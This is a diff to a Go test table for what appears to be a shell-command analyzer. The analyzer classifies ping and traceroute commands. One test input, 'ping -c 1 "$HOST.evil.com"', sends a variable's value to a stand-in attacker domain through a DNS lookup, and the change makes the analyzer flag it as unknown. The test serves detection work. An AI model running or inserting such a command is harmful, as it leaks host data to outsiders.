@@ -15,7 +15,7 @@ func TestProbes(t *testing.T) {
 		{"ping -qfc 5 10.0.0.1", "change (-f); network 10.0.0.1 \"5\" \"10.0.0.1\""},
 		{"ping -h 5 example.com", "network example.com \"5\" \"example.com\""},
 		{"ping -b192.168.1.255", "network  \"192.168.1.255\""},
-		{"ping -c 1 \"$HOST.evil.com\"", "network $HOST.evil.com \"1\" \"$HOST.evil.com\""},
+		{"ping -c 1 \"$HOST.evil.com\"", "unknown (the word $HOST.evil.com is computed at run time and may be any option); network $HOST.evil.com \"1\" \"$HOST.evil.com\""},
 		{"ping -V", ""},
 		{"traceroute example.com", "network example.com \"example.com\""},
 		{"traceroute -n -w 2 -q 1 8.8.8.8 60", "network 8.8.8.8 \"2\" \"1\" \"8.8.8.8\" \"60\""},
